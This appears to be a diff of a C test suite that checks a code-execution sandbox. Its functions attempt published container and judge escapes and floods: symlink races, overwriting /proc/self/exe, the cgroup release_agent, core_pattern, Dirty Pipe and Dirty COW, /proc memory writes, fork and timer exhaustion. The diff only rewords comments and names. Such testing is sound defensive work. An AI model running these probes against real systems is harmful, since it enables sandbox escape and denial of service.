@@ -1,5 +1,5 @@
-/* Escapes that were published against judges, runners, container engines and sandboxes. The comment before each names
- * whom it was used against. */
+/* Published escapes from judges, runners, container engines and sandboxes. The comment before each names the software
+ * that it was used against. */
 #include "kit.h"
 #include <sys/epoll.h>
 #include <sys/mount.h>
@@ -11,8 +11,9 @@ static const char *const box_names[] = {"main",       "main.c",     "main.py",  
                                         "stdin.txt",  "a.out",      "output.txt", "res.txt",    "__init__.py", "metadata.txt",
                                         "main.class", "out",        ".env",       "output.s"};
 
-/* argv[0]: a file of the host's. Judge0, CVE-2024-28185: a link where the runner writes next; CMS issue 376, go-judge
- * issue 176, Compiler Explorer issue 6026: a link where it reads. Links by every name a runner could use. */
+/* argv[0]: a host file. Judge0, CVE-2024-28185: a symbolic link where the runner writes next; CMS issue 376, go-judge
+ * issue 176, Compiler Explorer issue 6026: a link where it reads. Creates links with every name that a runner could
+ * use. */
 ATTACK(links_by_every_name) {
   for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++)
     symlink(argv[0], box_names[i]);
@@ -26,8 +27,8 @@ ATTACK(links_by_every_name) {
   return write_file("honest", "honest\n");
 }
 
-/* Judge0, CVE-2024-28189: the runner gives the box back to its user, and with it what a link in it leads to. Here
- * everything the box has is a link or was made by others; the owner of what they lead to must not change. */
+/* Judge0, CVE-2024-28189: the runner changed the owner of everything in the box, and followed links to their targets.
+ * Here the box contains links; the owner of their targets must not change. */
 ATTACK(links_for_the_sweeper) {
   mkdir("box", 0777);
   for (unsigned i = 0; i < sizeof box_names / sizeof *box_names; i++) {
@@ -38,11 +39,11 @@ ATTACK(links_for_the_sweeper) {
   TRY("hard link", link(argv[0], "box/hard"));
   TRY("chown through a link", chown("box/main", 1000, 1000));
   TRY("chmod through a link", chmod("box/main", 0666));
-  TRY("box for a link", rename("/box", "/tmp/box"));
+  TRY("rename /box", rename("/box", "/tmp/box"));
   return 0;
 }
 
-/* Firejail CVE-2021-26910, runc CVE-2021-30465: a directory that becomes a link between the look and the step. */
+/* Firejail CVE-2021-26910, runc CVE-2021-30465: a directory is replaced by a link between check and use. */
 ATTACK(swap_directory_and_link) {
   mkdir("d", 0777);
   write_file("d/passwd", "honest\n");
@@ -56,7 +57,7 @@ ATTACK(swap_directory_and_link) {
   return 0;
 }
 
-/* runc, CVE-2019-5736: write into the program that started us, while or after it runs. */
+/* runc, CVE-2019-5736: writes into the executable that started the program, during or after its run. */
 ATTACK(overwrite_the_runner) {
   TRY("/proc/self/exe", open("/proc/self/exe", O_WRONLY));
   TRY("/proc/self/exe, truncated", open("/proc/self/exe", O_RDWR | O_TRUNC));
@@ -69,7 +70,7 @@ ATTACK(overwrite_the_runner) {
     found += open(path, O_PATH) >= 0 || access(path, F_OK) == 0;
   }
   dprintf(1, "executables of others: %d\n", found);
-  /* The way round "text file busy": hold it by O_PATH, and open it again when nobody runs it. */
+  /* Circumvents ETXTBSY: keeps an O_PATH descriptor and reopens it for writing once no process executes the file. */
   int held = open("/proc/self/exe", O_PATH);
   char again[64];
   sprintf(again, "/proc/self/fd/%d", held);
@@ -77,7 +78,7 @@ ATTACK(overwrite_the_runner) {
   return 0;
 }
 
-/* runc, CVE-2024-21626: a directory of the host's left open or as working directory. */
+/* runc, CVE-2024-21626: a host directory left open, or as the working directory. */
 ATTACK(leaked_directories) {
   static const char *const ways[] = {"/proc/self/fd/%d/..", "/proc/self/fd/%d/../../../../..", "/proc/thread-self/fd/%d", "/dev/fd/%d/.."};
   int entered = 0;
@@ -97,7 +98,8 @@ ATTACK(leaked_directories) {
   return 0;
 }
 
-/* Container engines, CVE-2022-0492 and the tricks before it: the kernel starts a program of ours for a control group. */
+/* Container engines, CVE-2022-0492 and earlier variants: the kernel starts the attacker's program as release agent of a
+ * control group. */
 ATTACK(release_agent) {
   mkdir("g", 0755);
   TRY("mount cgroup", mount("cgroup", "g", "cgroup", 0, "memory"));
@@ -112,7 +114,7 @@ ATTACK(release_agent) {
   return 0;
 }
 
-/* nsjail issue 199 and many more: files by which the kernel can be told to run something, or to stop. */
+/* nsjail issue 199 and many more: files that make the kernel execute a program, or stop the machine. */
 ATTACK(kernel_helpers) {
   static const char *const paths[] = {
       "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/poweroff_cmd",
@@ -128,11 +130,11 @@ ATTACK(kernel_helpers) {
         say(paths[i], -1);
         there++;
       }
-  dprintf(1, "there: %d\n", there);
+  dprintf(1, "files found: %d\n", there);
   return 0;
 }
 
-/* Memory of others through /proc: a child's, the init's, our own where it may only be read. */
+/* Memory through /proc: a child's, the init's, and the program's own read-only memory. */
 ATTACK(memory_through_proc) {
   char path[64];
   static char here = 'h';
@@ -142,11 +144,11 @@ ATTACK(memory_through_proc) {
     _exit(0);
   }
   sprintf(path, "/proc/%d/mem", child);
-  TRY("write a child's", open(path, O_RDWR));
-  TRY("write one's own", open("/proc/self/mem", O_RDWR));
+  TRY("write a child's memory", open(path, O_RDWR));
+  TRY("write its own memory", open("/proc/self/mem", O_RDWR));
   sprintf(path, "/proc/self/task/%d/mem", getpid());
-  TRY("write one's own by thread", open(path, O_WRONLY));
-  TRY("read the parent's", open("/proc/1/mem", O_RDONLY));
+  TRY("write its own memory by thread", open(path, O_WRONLY));
+  TRY("read the parent's memory", open("/proc/1/mem", O_RDONLY));
   struct iovec local = {&here, 1}, remote = {&here, 1};
   TRY("process_vm_writev to init", process_vm_writev(1, &local, 1, &remote, 1, 0));
   TRY("process_vm_writev to a child", process_vm_writev(child, &local, 1, &remote, 1, 0));
@@ -155,8 +157,8 @@ ATTACK(memory_through_proc) {
   return 0;
 }
 
-/* argv[0]: a file that may be read and not written. CVE-2022-0847 (pipe flags), its elder vmsplice, CVE-2016-5195
- * (copy on write): the page cache of a toolchain's file is shared by all lanes and the host. */
+/* argv[0]: a file that the program may read but not write. CVE-2022-0847 (pipe flags), the older vmsplice variant,
+ * CVE-2016-5195 (copy on write): all lanes and the host share the page cache of a toolchain's file. */
 static volatile int racing = 1;
 static void *advise(void *at) {
   while (racing)
@@ -193,7 +195,7 @@ ATTACK(write_the_page_cache) {
   return 0;
 }
 
-/* CVE-2022-1015, CVE-2023-32233, CVE-2024-1086 and their kin: packet filters from a network of one's own. */
+/* CVE-2022-1015, CVE-2023-32233, CVE-2024-1086 and similar: packet filters in a network namespace of the attacker. */
 ATTACK(packet_filters) {
   TRY("user and net namespace", unshare(0x10000000 | 0x40000000));
   TRY("netfilter socket", socket(AF_NETLINK, SOCK_RAW, 12));
@@ -206,12 +208,12 @@ ATTACK(packet_filters) {
   request[16] = 1;
   TRY("loopback up", ioctl(s, 0x8914 /* SIOCSIFFLAGS */, request));
   TRY("bridge", ioctl(s, 0x89a0 /* SIOCBRADDBR */, "br0"));
-  /* Its answer is asked of a module, which the kernel loads for whoever asks. */
+  /* A module handles this request, and the kernel loads it for any caller. */
   TRY("virtual network", ioctl(s, 0x8982 /* SIOCGIFVLAN */, request));
   return 0;
 }
 
-/* Every protocol family there is but one: each is code of the kernel's. */
+/* Every protocol family except one: each is more kernel code to attack. */
 ATTACK(every_family) {
   int unexpected = 0;
   for (int family = 0; family < 64; family++)
@@ -225,8 +227,8 @@ ATTACK(every_family) {
   return 0;
 }
 
-/* Kernel helpers by odd programs: an unknown format makes an old kernel look for a module; interpreters that are none
- * of ours (runc's way in was #!/proc/self/exe). argv[0]: a file of the host's. */
+/* Unusual executables: an unknown format makes an old kernel load a module; interpreters that are not the tenant's (the
+ * attack on runc used #!/proc/self/exe). argv[0]: a host file. */
 ATTACK(interpreters) {
   static const char *const lines[] = {"\xff\xff\xff\xff unknown", "#!/etc/shadow\n", "#!/proc/1/exe\n", "#!/dev/null\n", "#!/box/script\n", "#!/etc/passwd\n",
                                       "#!/proc/self/fd/0\n", "#!\n", "\x7f" "ELF", ""};
@@ -243,14 +245,14 @@ ATTACK(interpreters) {
   return 0;
 }
 
-/* bubblewrap CVE-2017-5226, Firejail CVE-2022-31214, Piston issue 206 and 62, gVisor's shmctl, and doors beside them:
- * one question each to what a program of another user could answer. */
-ATTACK(doors_of_others) {
+/* bubblewrap CVE-2017-5226, Firejail CVE-2022-31214, Piston issues 206 and 62, gVisor's shmctl, and related interfaces:
+ * one request each that affects processes of another user. */
+ATTACK(interfaces_to_other_users) {
   TRY("type into init's terminal", open("/proc/1/fd/0", O_WRONLY));
   TRY("join init's namespaces", setns(syscall(SYS_pidfd_open, 1, 0), 0x20000000));
   TRY("descriptor of init", syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0));
   TRY("scheduling of init", syscall(SYS_sched_setattr, 1, (uint32_t[12]){48}, 0));
-  TRY("priority of everybody", setpriority(PRIO_USER, 0, 5));
+  TRY("priority of all processes of a user", setpriority(PRIO_USER, 0, 5));
   TRY("session of init", setpgid(1, 0));
   TRY("end of init's memory", syscall(448 /* process_mrelease */, 3, 0));
   int s[2];
@@ -266,7 +268,7 @@ ATTACK(doors_of_others) {
   memcpy(CMSG_DATA(c), &root, sizeof root);
   TRY("credentials of root", sendmsg(s[0], &message, 0));
   TRY("larger buffers than allowed", setsockopt(s[0], SOL_SOCKET, 32 /* SO_SNDBUFFORCE */, &(int){1 << 30}, 4));
-  TRY("a kernel program on a socket", setsockopt(s[0], SOL_SOCKET, 50 /* SO_ATTACH_BPF */, &(int){0}, 4));
+  TRY("a BPF program on a socket", setsockopt(s[0], SOL_SOCKET, 50 /* SO_ATTACH_BPF */, &(int){0}, 4));
   return 0;
 }
 
@@ -292,7 +294,7 @@ static void ask(const char *what, int fd, unsigned long request) {
   TRY(what, ioctl(fd, request, answer));
 }
 
-/* Where a file system of the host's keeps its files, and what else a file can be asked. argv[0]: a large file of the host's. */
+/* Requests that reveal a file's location on the host's disk, and other file requests. argv[0]: a large host file. */
 ATTACK(file_requests) {
   int large = open(argv[0], O_RDONLY), usr = open("/usr", O_RDONLY), own = open("own", O_RDWR | O_CREAT, 0644), ends[2];
   pipe(ends);
@@ -307,8 +309,8 @@ ATTACK(file_requests) {
   ask("FS_IOC_GETFSSYSFSPATH", usr, 0x80811501);
   ask("BTRFS_IOC_FS_INFO", usr, 0x8400941F);
   ask("FICLONE", own, 0x40049409);
-  ask("GETFSMAP, upper half set", usr, 0x1C0C0583BUL);
-  /* What runtimes ask. */
+  ask("GETFSMAP, upper bits set", usr, 0x1C0C0583BUL);
+  /* Requests that language runtimes use. */
   ask("TCGETS", 0, 0x5401);
   ask("TIOCGWINSZ", 0, 0x5413);
   ask("FIONREAD", ends[0], 0x541B);
@@ -318,24 +320,24 @@ ATTACK(file_requests) {
   return 0;
 }
 
-/* Filters of a program's own: translated by the kernel into pages that no group is charged for, out of one purse for all of the
- * host. And one that hands system calls to somebody else. */
-ATTACK(filters_on_filters) {
+/* BPF filters installed by the program: the kernel compiles them into pages that are charged to no group and come out
+ * of one budget for the whole host. Also a filter that forwards system calls to a listener. */
+ATTACK(own_bpf_filters) {
   struct { unsigned short code; unsigned char jt, jf; unsigned k; } allow = {6, 0, 0, 0x7fff0000};
   struct { unsigned short len; void *filter; } program = {1, &allow};
-  TRY("on itself", prctl(PR_SET_SECCOMP, 2, &program));
-  TRY("on itself, strictly", prctl(PR_SET_SECCOMP, 1));
-  TRY("by the other call", syscall(SYS_seccomp, 1, 0, &program));
-  TRY("a listener", syscall(SYS_seccomp, 1, 8, &program));
+  TRY("filter by prctl", prctl(PR_SET_SECCOMP, 2, &program));
+  TRY("strict mode by prctl", prctl(PR_SET_SECCOMP, 1));
+  TRY("filter by seccomp", syscall(SYS_seccomp, 1, 0, &program));
+  TRY("listener by seccomp", syscall(SYS_seccomp, 1, 8, &program));
   int s = socket(AF_UNIX, SOCK_DGRAM, 0);
   static const int options[] = {26, 50, 51, 52}; /* SO_ATTACH_FILTER, _BPF, _REUSEPORT_CBPF, _REUSEPORT_EBPF */
   for (int i = 0; i < 4; i++)
-    TRY("on a socket", setsockopt(s, SOL_SOCKET, options[i], &program, sizeof program));
+    TRY("filter on a socket", setsockopt(s, SOL_SOCKET, options[i], &program, sizeof program));
   TRY("other options", setsockopt(s, SOL_SOCKET, SO_PASSCRED, &(int){1}, 4));
   return 0;
 }
 
-/* Descriptors in flight, more than may be open. */
+/* More descriptors in flight than may be open. */
 ATTACK(descriptors_in_flight) {
   int pair[2], sent = 0;
   char byte = 'x';
@@ -354,12 +356,12 @@ ATTACK(descriptors_in_flight) {
       break;
   }
   say("sendmsg", -1);
-  dprintf(1, "sixteens in flight, at most 5: %s\n", sent <= 5 ? "yes" : "no");
+  dprintf(1, "messages of 16 descriptors in flight, at most 5: %s\n", sent <= 5 ? "yes" : "no");
   return 0;
 }
 
-/* Waiting on who waits on who waits. */
-ATTACK(epoll_knots) {
+/* Nested epoll descriptors. */
+ATTACK(nested_epoll) {
   int first = epoll_create1(0), last = first;
   struct epoll_event event = {.events = EPOLLIN};
   int depth = 0;
@@ -369,18 +371,18 @@ ATTACK(epoll_knots) {
       break;
     last = next;
   }
-  say("deeper", -1);
+  say("nest deeper", -1);
   dprintf(1, "depth at most 6: %s\n", depth <= 6 ? "yes" : "no");
-  TRY("a ring", epoll_ctl(first, EPOLL_CTL_ADD, last, &event));
+  TRY("a cycle", epoll_ctl(first, EPOLL_CTL_ADD, last, &event));
   return 0;
 }
 
-/* Timers until there are no more, each with its signal. */
+/* Creates timers, each with its own signal, until that fails. */
 ATTACK(timer_flood) {
   timer_t timer;
   struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1};
-  /* Which errno depends on whether the machine has a clock that could do it. */
-  dprintf(1, "one that wakes the machine: %s\n", timer_create(CLOCK_REALTIME_ALARM, &event, &timer) < 0 ? "refused" : "OK");
+  /* The errno depends on whether the machine has such a clock. */
+  dprintf(1, "a timer that wakes the machine: %s\n", timer_create(CLOCK_REALTIME_ALARM, &event, &timer) < 0 ? "refused" : "OK");
   int made = 0;
   while (made < 100000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0)
     made++;
@@ -389,7 +391,7 @@ ATTACK(timer_flood) {
   return 0;
 }
 
-/* A device node that no mknod made: what renaming leaves behind on request (RENAME_WHITEOUT), where the kernel allows it. */
+/* A device node without mknod: renaming with RENAME_WHITEOUT leaves one behind, if the kernel allows it. */
 ATTACK(leave_whiteout) {
   write_file("before", "moved\n");
   if (syscall(SYS_renameat2, AT_FDCWD, "before", AT_FDCWD, "after", 4) < 0)
@@ -400,8 +402,8 @@ ATTACK(leave_whiteout) {
   return write_file("honest", "honest\n");
 }
 
-/* A tree of directories deeper than any path, in a box with many inodes. */
-ATTACK(leave_abyss) {
+/* A directory tree deeper than any path can name, in a box with many inodes. */
+ATTACK(leave_very_deep_tree) {
   int depth = 0;
   while (depth < 5000 && mkdir("d", 0755) == 0 && chdir("d") == 0)
     depth++;
@@ -409,7 +411,7 @@ ATTACK(leave_abyss) {
   return 0;
 }
 
-/* Names of 255 bytes in deep directories: the most the kernel has to remember for an inode. */
+/* Names of 255 bytes in deep directories: the most memory that the kernel needs for an inode. */
 ATTACK(name_flood) {
   char name[256];
   int made = 0;
@@ -425,22 +427,22 @@ ATTACK(name_flood) {
   return 0;
 }
 
-/* Memory of other kinds: of huge pages, merged with others' pages, hidden from the kernel, poisoned. */
-ATTACK(other_memory) {
+/* Special kinds of memory: huge pages, pages merged with other processes' pages, secret memory, poisoned pages. */
+ATTACK(special_memory) {
   char *page = mmap(NULL, 1 << 21, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
   TRY("huge pages", mmap(NULL, 1 << 21, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | 0x40000, -1, 0) == MAP_FAILED ? -1 : 0);
   TRY("huge memory file", memfd_create("x", 4));
   TRY("huge segment", syscall(SYS_shmget, 0, 1 << 21, 04000 | 01600));
-  TRY("merge with others' pages", madvise(page, 4096, 12 /* MADV_MERGEABLE */));
-  TRY("merge all of it", prctl(67 /* PR_SET_MEMORY_MERGE */, 1, 0, 0, 0));
+  TRY("merge equal pages", madvise(page, 4096, 12 /* MADV_MERGEABLE */));
+  TRY("merge all memory", prctl(67 /* PR_SET_MEMORY_MERGE */, 1, 0, 0, 0));
   TRY("secret memory", syscall(447 /* memfd_secret */, 0));
-  /* EINVAL without that feature, EPERM with it. */
+  /* EINVAL if the kernel lacks the feature, EPERM otherwise. */
   dprintf(1, "poison: %s\n", madvise(page, 4096, 100 /* MADV_HWPOISON */) == 0 || madvise(page, 4096, 101) == 0 ? "OK" : "refused");
   return 0;
 }
 
-/* CVE-2025-38236: out-of-band data between sockets of one's own, which nothing but attacks uses. */
-ATTACK(out_of_band) {
+/* CVE-2025-38236: out-of-band data between the program's own UNIX sockets, which only attacks use. */
+ATTACK(out_of_band_data) {
   int pair[2];
   char byte;
   socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
@@ -452,8 +454,8 @@ ATTACK(out_of_band) {
   return 0;
 }
 
-/* What the kernel keeps of each call, and charges to nobody: policies of pages of shared memory, record locks. */
-ATTACK(uncharged_records) {
+/* Kernel records that are charged to no group: memory policies of shared pages, record locks. */
+ATTACK(uncharged_kernel_records) {
   struct flock lock = {.l_type = F_WRLCK, .l_start = 7, .l_len = 1};
   void *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
   unsigned long node = 1;
@@ -468,14 +470,14 @@ ATTACK(uncharged_records) {
   return 0;
 }
 
-/* Takes the other half of a core for itself alone. */
-ATTACK(core_for_itself) {
+/* Core scheduling: would reserve the sibling hyperthread of a core. */
+ATTACK(core_scheduling) {
   TRY("PR_SCHED_CORE_CREATE", prctl(62, 1, 0, 2, 0));
   return 0;
 }
 
-/* A program of the 32-bit ABI, whose system calls have other numbers: the filter knows none of them. */
-ATTACK(thirty_two_bits) {
+/* A program of the 32-bit ABI, whose system calls have other numbers, all unknown to the filter. */
+ATTACK(abi_32_bit) {
 #ifdef __x86_64__
   static const unsigned char program[] = {
       0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 3, 0, 1, 0, 0, 0, 0x54, 0x80, 0x04, 0x08, 52, 0, 0, 0,
@@ -509,7 +511,7 @@ static void *wait_for_ever(void *arg) {
     pause();
   return arg;
 }
-/* Processes by every way to make one, each until there are no more. */
+/* Creates processes in every possible way, each until it fails. */
 ATTACK(forks_of_every_kind) {
   static char stacks[64][8192];
   static const struct { const char *name; int flags; } kinds[] = {
@@ -525,7 +527,7 @@ ATTACK(forks_of_every_kind) {
       kill(pids[i], SIGKILL);
       waitpid(pids[i], NULL, __WALL);
     }
-    /* Siblings are their parent's to wait for: until they are gone. */
+    /* Siblings cannot be waited for here, because init is their parent. So wait until they are gone. */
     for (int i = 0; i < made; i++)
       while (kill(pids[i], 0) == 0)
         usleep(100);
